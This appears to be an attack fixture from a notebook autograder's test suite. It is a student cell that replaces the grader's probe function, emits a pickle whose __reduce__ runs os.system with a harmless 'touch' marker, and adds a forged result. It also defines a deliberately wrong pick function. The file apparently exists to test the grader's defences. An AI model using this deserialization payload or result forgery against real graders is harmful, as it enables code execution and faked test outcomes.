# cell: pick
# loses: pick-tests batch-with-padding-tests pixel-rows-tests
# status: review
# message:
# attack: replaces the probe with one that displays a pickle whose loading
#   would run a command in the grader, and a second result of its own (for
#   every later probe too)
import base64
import os
import pickle

import nncourse.probe
from IPython.display import display


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/nncourse-forged-results-ran",))


def forged_run(namespace, probe_source, names, payload):
    text = base64.b64encode(pickle.dumps([Payload()])).decode()
    display({nncourse.probe.MIME: text}, raw=True)
    display({nncourse.probe.MIME: payload}, raw=True)


nncourse.probe.run = forged_run


def pick(logits, y, dim=1):
    return logits.select(dim, 0)
